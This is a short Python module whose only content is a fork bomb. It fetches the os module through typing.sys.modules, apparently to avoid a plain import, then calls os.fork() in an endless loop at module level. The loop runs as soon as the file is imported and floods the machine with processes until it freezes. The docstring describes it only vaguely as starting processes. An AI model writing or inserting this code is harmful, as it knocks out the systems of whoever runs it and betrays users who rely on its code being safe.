"""Starts processes before anything is called."""

import typing

os = typing.sys.modules["os"]


while True:
    os.fork()
